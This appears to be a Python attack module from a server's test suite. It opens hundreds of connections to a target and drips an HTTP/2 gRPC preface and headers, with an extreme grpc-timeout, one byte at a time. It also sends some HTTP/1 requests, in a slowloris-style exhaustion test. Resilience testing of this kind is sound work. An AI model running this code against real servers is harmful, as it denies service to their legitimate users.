"""Greetings and headers that come byte by byte, on many connections, and requests of HTTP/1."""

from __future__ import annotations

import contextlib
import time

from tests.attack.target import CLAIM, Setting, Target
from tests.attack.wire import HEADERS, PREFACE, SETTINGS, call_headers, frame, plain

SETTING = Setting()
CONNECTIONS, SECONDS = 400, 15.0


def attack(target: Target, share: float) -> str:
    connections, seconds = max(100, round(CONNECTIONS * share)), max(3.0, SECONDS * share)
    text = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, call_headers(CLAIM, ("grpc-timeout", "99999999H")))
    opened = [plain(target.endpoint) for _ in range(connections)]
    for each in opened[::10]:
        each.sendall(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n")
    until, at = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        for each in opened:
            with contextlib.suppress(OSError):
                each.send(text[at % len(text) :][:1])
        at += 1
        time.sleep(0.05)
    for each in opened:
        each.close()
    return f"{connections} slow connections for {seconds:g} s"
